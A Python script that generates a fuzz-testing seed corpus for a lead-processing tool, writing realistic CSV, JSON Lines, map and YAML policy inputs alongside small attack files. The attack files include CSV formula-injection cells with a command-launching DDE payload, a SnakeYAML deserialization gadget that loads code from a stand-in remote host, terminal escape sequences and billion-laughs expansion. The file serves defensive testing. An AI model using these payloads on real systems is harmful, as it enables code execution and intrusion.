#!/usr/bin/env python3
"""Writes the seed corpus of lead-rules-fuzz: realistic inputs cut from the shipped samples and small
versions of the attacks of issue 9. Run from the repository root: python3 lead-rules-fuzz/seeds/make_seeds.py
Every file is deterministic; re-running rewrites the same bytes."""
import csv
import io
import json
import os
import random

ROOT = 'lead-rules-fuzz/src/test/resources'
DIRS = {
    'csv': ROOT + '/io/github/leadrules/cli/io/CsvReaderFuzzTestInputs/everyRecordComesBackAsOneRow',
    'csv-generated': ROOT + '/io/github/leadrules/cli/io/CsvReaderFuzzTestInputs/generatedRecordsComeBackExactly',
    'jsonl': ROOT + '/io/github/leadrules/cli/io/JsonLinesFuzzTestInputs/everyLineComesBackAsOneRow',
    'map': ROOT + '/io/github/leadrules/cli/columns/MapFileFuzzTestInputs/aMapFileLoadsOrIsRefused',
    'policy': ROOT + '/io/github/leadrules/policy/PolicyFileFuzzTestInputs/aPolicyFileLoadsOrIsRefusedWithItsProblems',
}

def write(target, name, data):
    if isinstance(data, str):
        data = data.encode('utf-8')
    directory = DIRS[target]
    os.makedirs(directory, exist_ok=True)
    with open(os.path.join(directory, name), 'wb') as f:
        f.write(data)


def lines(path, n):
    with open(path, encoding='utf-8', newline='') as f:
        return ''.join(f.readline() for _ in range(n))


BOM = b'\xef\xbb\xbf'

# ---------------------------------------------------------------- CSV, realistic
with open('samples/leads-with-errors.csv', 'rb') as f:
    write('csv', 'real-leads-with-errors.csv', f.read())
write('csv', 'real-leads-2000-first-40.csv', lines('samples/leads-2000.csv', 41))
write('csv', 'real-accounts.csv', lines('samples/accounts.csv', 30))
write('csv', 'real-recent-leads-first-30.csv', lines('samples/recent-leads.csv', 31))
write('csv', 'real-salesforce-export-en-crlf.csv', (
    'Id,FirstName,LastName,Company,Email,Phone,Title,LeadSource,Status,CreatedDate,Industry,NumberOfEmployees,Country\r\n'
    '00Q5e00000AbCdE,Emily,Smith,"Acme Manufacturing, Inc.",emily.smith@acme-mfg.example,+1 415 555 0142,VP of Sales,Web,Open - Not Contacted,2026-11-27T08:20:00.000Z,Manufacturing,1200,United States\r\n'
    '00Q5e00000AbCdF,David,Brown,Globex Retail Ltd,david.brown@globex-retail.example,,"IT Manager, EMEA",Partner Referral,Working - Contacted,2026-11-23T02:30:00.000Z,Retail,5000,GB\r\n'
    '00Q5e00000AbCdG,Wei,Chen,Lakeside Logistics Pte. Ltd.,wei.chen@lakeside-logistics.example,,Director of IT,Trade Show,Open - Not Contacted,2026-11-27T00:40:00.000Z,Logistics,1400,SG\r\n'))
write('csv', 'real-hubspot-export-bom.csv', BOM + (
    'Record ID,First Name,Last Name,Email,Phone Number,Job Title,Company Name,Industry,Create Date,Lifecycle Stage\n'
    '501,Sarah,Lewis,sarah.lewis@initech-mfg.example,+1 415 555 0188,Engineer,Initech Manufacturing Inc.,Manufacturing,2026-11-14 22:56,lead\n'
    '502,Olivia,Walker,olivia.walker@keystone-retail.example,,Chief Marketing Officer,Keystone Retail Corporation,Retail,2026-11-25 09:30,marketingqualifiedlead\n').encode('utf-8'))
form_tool = ('受付番号,受付日時,氏名,メールアドレス,電話番号,役職,会社名,業種,従業員数,お問い合わせ種別,導入時期,予算,部署名\r\n'
             'F-0001,2026/11/26 10:15,佐藤 太郎,taro.sato@sakura-seiki.example,03-0000-1201,部長,株式会社さくら精機,製造業,850,デモ依頼,1か月以内,確保済み,製造部\r\n'
             'F-0002,2026/11/25 14:40,鈴木 花子,hanako.suzuki@aoba-systems.example,,課長,(株)青葉システムズ,情報通信業,420,資料請求,半年以内,計画中,情報システム部\r\n'
             'F-0003,2026/11/24 08:05,田中 健,ken.tanaka@hokuto-kogyo.example,,本部長,"北斗工業株式会社, 東京支社",製造業,たくさん,見積依頼,3か月以内,,"営業本部\r\n第一営業部"\r\n')
write('csv', 'real-form-tool-ja-utf8.csv', form_tool)
write('csv', 'real-form-tool-ja-shift-jis-read-as-utf8.csv', form_tool.encode('shift_jis'))
write('csv', 'real-quoted-fields.csv', (
    'id,company_name,job_title,engagement\n'
    'L-1,"Acme, Inc.","say ""hi""","pricing@2026-11-06T14:24Z;case_study:金融業@2026-11-10T01:35Z"\n'
    'L-2,"株式会社さくら精機\n東京本社",部長,\n'
    '\n'
    'L-3,,"",\n'
    'L-4,"Initech ""Best"" Co",Head of IT,"a\r\nb"\n'))

# ---------------------------------------------------------------- CSV, attacks (small versions)
write('csv', 'attack-stray-quotes-5000-lines.csv', 'id,name,note\n' + 'L-1,x","\n' * 5000)
write('csv', 'attack-stray-quotes-20-lines.csv', 'id,name,note\n' + 'L-1,x","\n' * 20)
write('csv', 'attack-unterminated-quote-then-rows.csv', 'id,company_name,email\nL-1,"Globex,x@globex.example\nL-2,Acme,a@acme.example\nL-3,"Initech\n')
write('csv', 'attack-text-after-closing-quote.csv', 'id,company_name\nL-1,"Acme" Inc\nL-2,"株式会社"さくら\n')
write('csv', 'attack-nul-bytes.csv', 'id\x00,company_name\nL-1,Ac\x00me\n\x00\x00\x00\nL-2,\x00\n')
write('csv', 'attack-escape-sequences-in-header.csv', 'id,\x1b[31mcompany_name\x1b[0m,\x1b]0;pwned\x07email,\x1b[2J\nL-1,Acme,a@acme.example,\n')
# Rows whose problems name a column with escape sequences and bidirectional overrides in its name.
write('csv', 'attack-escape-sequences-in-problem-column.csv', (
    'id,\x1b[31mcompany\u202e_name\x1b[0m,\u2066email\x00\n'
    'L-1,"Acme Manufacturing, Inc.",a@acme.example\n'
    'L-2,"株式会社さくら精機"x,b@sakura.example\n'
    'L-3,"Globex,c@globex.example\n'
    'L-4,Initech,d@initech.example\n'))
write('csv', 'attack-utf16le-bom.csv', '\ufeffid,company_name,email\r\nL-1,株式会社さくら精機,taro@sakura-seiki.example\r\n'.encode('utf-16-le'))
write('csv', 'attack-utf16be-bom.csv', '\ufeffid,company_name\nL-1,Acme\n'.encode('utf-16-be'))
write('csv', 'attack-long-unquoted-line.csv', 'id,company_name\nL-1,' + 'A' * 100_000 + '\nL-2,Acme\n')
write('csv', 'attack-long-quoted-field-many-lines.csv', 'id,note\nL-1,"' + 'line\n' * 2000 + '"\nL-2,x\n')
write('csv', 'attack-2000-columns-10000-fields.csv', ','.join('c%d' % i for i in range(2000)) + '\n' + ',' * 9999 + '\n')
write('csv', 'attack-duplicate-header-names.csv', 'email,email,Email ,id\nx@a.example,y@b.example,z@c.example,L-1\n')
write('csv', 'attack-cr-only-line-ends.csv', 'id,company_name\rL-1,Acme\rL-2,"two\rlines"\r')
write('csv', 'attack-formula-cells.csv', 'id,company_name,phone\nL-1,=HYPERLINK("http://x.example","click"),+81 3 0000 1201\nL-2,+cmd|\' /C calc\'!A0,-42\nL-3,@SUM(A1:A2),\n')
write('csv', 'attack-binary.csv', bytes(random.Random(9).randrange(256) for _ in range(2048)))
write('csv', 'attack-only-blank-lines.csv', '\n \n\t\r\n\u3000\n')
write('csv', 'attack-bom-only.csv', BOM)
write('csv', 'attack-header-unterminated-quote.csv', 'id,"company_name\nL-1,Acme\n')

# Raw bytes for the generated-records target (the fuzzer's choices, not CSV).
rng = random.Random(20261128)
for i, size in enumerate([16, 64, 256, 1024, 4096]):
    write('csv-generated', 'choices-%d-%d-bytes.bin' % (i, size), bytes(rng.randrange(256) for _ in range(size)))

# ---------------------------------------------------------------- JSON Lines
def jsonl_from_csv(path, n):
    with open(path, encoding='utf-8', newline='') as f:
        out = []
        for row in list(csv.DictReader(f))[:n]:
            obj = {}
            for k, v in row.items():
                if k is None or v is None:
                    continue
                if k == 'employee_count' and v.isdigit():
                    obj[k] = int(v)
                elif k == 'converted' and v in ('true', 'false'):
                    obj[k] = v == 'true'
                elif k == 'engagement' and v:
                    events = []
                    for e in v.split(';'):
                        what, _, at = e.partition('@')
                        typ, _, detail = what.partition(':')
                        ev = {'type': typ, 'at': at}
                        if detail:
                            ev['detail'] = detail
                        events.append(ev)
                    obj[k] = events
                else:
                    obj[k] = v if v != '' else None
            out.append(json.dumps(obj, ensure_ascii=False))
        return '\n'.join(out) + '\n'

write('jsonl', 'real-leads-2000-first-20.jsonl', jsonl_from_csv('samples/leads-2000.csv', 20))
write('jsonl', 'real-leads-with-errors.jsonl', jsonl_from_csv('samples/leads-with-errors.csv', 40))
write('jsonl', 'real-escapes-and-crlf.jsonl', (
    '{"id":"L-1","company_name":"Acme \\"Best\\" Co","note":"two\\nlines","emoji":"\\ud83d\\ude00","ja":"\\u682a\\u5f0f\\u4f1a\\u793e"}\r\n'
    '\r\n'
    '{"id":"L-2","company_name":"株式会社さくら精機","note":null,"extra":{"nested":[1,2.5,-3e2,true,false,null]}}\r\n'))
write('jsonl', 'real-bom-and-blank-lines.jsonl', BOM + '{"id":"L-1","email":"a@acme.example"}\n\n   \n{"id":"L-2"}\n'.encode('utf-8'))
write('jsonl', 'attack-huge-exponent.jsonl', '{"id":"L-1","company_name":"Acme","employee_count":1e99999999}\n{"id":"L-2","company_name":"Globex","employee_count":12}\n')
write('jsonl', 'attack-huge-negative-exponent.jsonl', '{"id":"L-1","employee_count":1e-99999999}\n{"id":"L-2","employee_count":12}\n')
write('jsonl', 'attack-long-digit-string.jsonl', '{"id":"L-1","employee_count":' + '9' * 20000 + '}\n{"id":"L-2"}\n')
write('jsonl', 'attack-malformed-lines.jsonl', '{"id":"L-1","email":"a@acme.example"}\n{"id":"L-2",\n[1,2]\n"just a string"\n{"id":"L-3"}}\nnull\n{"id":"L-4"\n')
write('jsonl', 'attack-deep-nesting.jsonl', '{"id":"L-1","x":' + '[' * 3000 + ']' * 3000 + '}\n{"id":"L-2"}\n')
write('jsonl', 'attack-nul-and-control-escapes.jsonl', '{"id\\u0000":"L-1","company_name":"Ac\\u0000me\\u001b[31m","bad":"\\ud800"}\n{"id":"L-2","raw":"a\x00b"}\n')
write('jsonl', 'attack-escape-sequences-in-problem-keys.jsonl', (
    '{"id":"L-1","\\u202eemail\\u001b[31m":"a@acme.example"}\n'
    '{"id":"L-2","\\u202eemail\\u001b[31m":' + '9' * 2000 + '}\n'
    '{"id":"L-3","\x1b]0;pwned\x07":"x","\x1b]0;pwned\x07":"y"}\n'
    '{"id":"L-4","\u2066k\u2069":[1,2,}\n'))
# Found by fuzzing (2026-11-30): an exponent beyond what a BigDecimal holds threw NumberFormatException out of the reader.
write('jsonl', 'finding-exponent-beyond-bigdecimal-first-line.jsonl', '{"id":"L-1","employee_count":1e-99999998889}\n{"id":"L-2"}\n')
write('jsonl', 'finding-exponent-beyond-bigdecimal.jsonl', (
    '{"id":"L-1","employee_count":850}\n{"id":"L-2","employee_count":1e-99999998889}\n'
    '{"id":"L-3","employee_count":1e99999999999}\n{"id":"L-4","employee_count":-2.5E+2147483648}\n'))
write('jsonl', 'attack-escape-sequences-in-keys.jsonl', '{"\x1b[31mid":"L-1","\\u001b]0;pwned\\u0007email":"a@acme.example"}\n')
write('jsonl', 'attack-utf16le-bom.jsonl', '\ufeff{"id":"L-1","company_name":"株式会社さくら精機"}\n'.encode('utf-16-le'))
write('jsonl', 'attack-first-line-not-object.jsonl', '[{"id":"L-1"}]\n{"id":"L-2"}\n')
write('jsonl', 'attack-duplicate-keys.jsonl', '{"email":"a@acme.example","email":"b@globex.example"}\n')
write('jsonl', 'attack-lone-cr-inside-line.jsonl', '{"id":"L-1",\r"email":"a@acme.example"}\n{"id":"L-2"}\n')

# ---------------------------------------------------------------- map files
write('map', 'real-form-tool-properties.properties', (
    '# a Japanese form tool export\n'
    'id = 受付番号\nsubmitted_at = 受付日時\ncontact_name = 氏名\nemail = メールアドレス\nphone = 電話番号\n'
    'job_title = 役職\ncompany_name = 会社名\nemployee_count = 従業員数\nattribute.department = 部署名\n'))
write('map', 'real-form-tool-yaml.yaml', (
    '---\n# read with --encoding Shift_JIS --zone Asia/Tokyo\nid: "受付番号"\nemail: \'メールアドレス\'\n'
    'company_name: 会社名   # the company\ncountry: " Country "\n'))
write('map', 'real-own-layout-override-crlf-bom.properties', BOM + 'email = E-mail Address\r\nattribute.score = employee_count\r\n\r\n'.encode('utf-8'))
write('map', 'attack-unknown-key.properties', 'emial = メールアドレス\n')
write('map', 'attack-key-given-twice.properties', 'email = メールアドレス\nEMAIL: E-mail Address\n')
write('map', 'attack-no-column.properties', 'email =\nphone: ""\n')
write('map', 'attack-missing-column.properties', 'email = 存在しない列\nattribute.x = nowhere\n')
write('map', 'attack-escape-sequences-in-key.properties', '\x1b[31memail\x1b[0m = メールアドレス\n\x1b]0;pwned\x07 = x\n')
write('map', 'attack-escape-sequences-in-values.properties', 'email = \x1b[31mメール\u202eアドレス\x1b[0m\nphone: "\x1b]0;pwned\x07"\n')
write('map', 'attack-bidi-in-attribute-name.properties', 'attribute.\u202eevil\x1b[0m = \x00nowhere\ncompany_name = 会社名\n')
write('map', 'attack-escape-sequences-header-line.properties', '# id,\x1b]0;pwned\x07,\u2066email\u2069,\x9b2J,\u2028\nemail = メールアドレス\n')
# Found by fuzzing (2026-11-30): an attribute name was echoed raw when its column is repeated in the header.
write('map', 'finding-attribute-name-raw-in-repeated-column-error.properties', 'email = e\nattribute.d\x00\x1b[2J = c\nattribute.x = C\n')
write('map', 'attack-nul-bytes.properties', 'email\x00 = メールアドレス\nphone = \x00\n')
write('map', 'attack-not-utf8.properties', 'email = メールアドレス\n'.encode('shift_jis'))
write('map', 'attack-utf16le-bom.properties', '\ufeffemail = メールアドレス\n'.encode('utf-16-le'))
write('map', 'attack-long-line.properties', 'email = ' + 'x' * 20_000 + '\n')
write('map', 'attack-many-attributes.properties', ''.join('attribute.a%d = c%d\n' % (i, i) for i in range(1000)))
write('map', 'attack-separators-only.properties', '=\n:\n = \n: :\n==\n')

# ---------------------------------------------------------------- policy files
with open('samples/policy.yaml', 'rb') as f:
    write('policy', 'real-samples-policy.yaml', f.read())
with open('examples/policy/lead-policy.yaml', 'rb') as f:
    write('policy', 'real-examples-lead-policy.yaml', f.read())
write('policy', 'real-adjust-lists-and-teams.yaml', (
    'version: 1\n'
    'minimumEmployees: 50\n'
    'freeMailDomains:\n  add: [mail.example-isp.jp]\n  remove: [outlook.jp]\n'
    'targetCountries: [日本, United States, SG]\n'
    'urgencyThresholds: {immediate: 90, high: 60, medium: 30}\n'
    'duplicateWindow: 1h30m\n'
    'coldAfter: P90D\n'))
write('policy', 'real-problems-every-kind.yaml', (
    'version: 2\nminimumEmploees: 10\nenterpriseEmployees: fifty\nurgencyThresholds: {immediate: 10, high: 50, medium: 25}\n'
    'ownDomains: [not a domain, "exa mple.com"]\ntargetCountries: [Atlantis]\nduplicateWindow: soon\nteams: nope\n'))
write('policy', 'real-empty.yaml', '')
write('policy', 'attack-duration-overflow.yaml', 'version: 1\nduplicateWindow: 999999999999999d\n')
alias_value = 'x' * 2000
write('policy', 'attack-alias-reused-string.yaml', 'version: 1\nanchor: &a "' + alias_value + '"\nownDomains: [' + ', '.join(['*a'] * 2000) + ']\n')
write('policy', 'attack-alias-reused-string-valid-list.yaml', 'version: 1\ntestMarkers: [&a "' + 'x' * 10_000 + '", ' + ', '.join(['*a'] * 20_000) + ']\n')
write('policy', 'attack-alias-reused-string-small.yaml', 'version: 1\nownDomains: [&a "not a domain", ' + ', '.join(['*a'] * 20) + ']\n')
write('policy', 'attack-long-scalar-value.yaml', 'version: 1\nownDomains: ["' + 'y' * 200_000 + '"]\n')
write('policy', 'attack-long-scalar-key.yaml', 'version: 1\n' + 'k' * 20_000 + ': 1\n')
write('policy', 'attack-billion-laughs.yaml', (
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n'
    'e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n'))
write('policy', 'attack-java-tags.yaml', 'version: !!java.net.URL ["http://x.example"]\nminimumEmployees: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x.example"]]]]\n')
write('policy', 'attack-deep-nesting.yaml', 'teams: ' + '[' * 1000 + ']' * 1000 + '\n')
write('policy', 'attack-complex-keys.yaml', '? [a, b]\n: 1\n? {x: y}\n: 2\nteams:\n  - ? [name]\n    : x\n')
write('policy', 'attack-nul-and-escapes.yaml', 'version: 1\nownDomains: ["ex\\0ample.com", "\\e[31m.example"]\n\x1b[2Jkey: 1\n')
write('policy', 'attack-escape-sequences-in-keys.yaml', (
    'version: 1\n'
    '"\\e[31mminimumEmployees": 5\n'
    'team\u202es: []\n'
    'urgencyThresholds: {"\\e[2J": 1, high: "\\e]0;pwned\\a"}\n'
    'teams:\n  - name: "\\e]0;pwned\\a\u2066"\n    reps: [{id: "\u202erep", weight: "\\0"}]\n'
    'ownDomains: ["\\u2067.example", "\\x9b.example"]\n'))
write('policy', 'attack-utf16le-bom.yaml', '\ufeffversion: 1\nminimumEmployees: 20\n'.encode('utf-16-le'))
write('policy', 'attack-huge-numbers.yaml', 'version: 1\nminimumEmployees: ' + '9' * 5000 + '\nenterpriseEmployees: 1e999999999\nurgencyThresholds: {immediate: 0x7fffffffffffffffff, high: -99999999999999999999, medium: 0b1}\n')
write('policy', 'attack-merge-keys.yaml', 'base: &base {immediate: 80, high: 50}\nurgencyThresholds:\n  <<: *base\n  medium: 25\n')
write('policy', 'attack-durations-edge.yaml', 'version: 1\nengagementWindow: 0d\nburstWindow: -5d\ncoldAfter: PT99999999999999H\nstalledAfter: 1d1d1d\nimmediateSla: "  "\n')
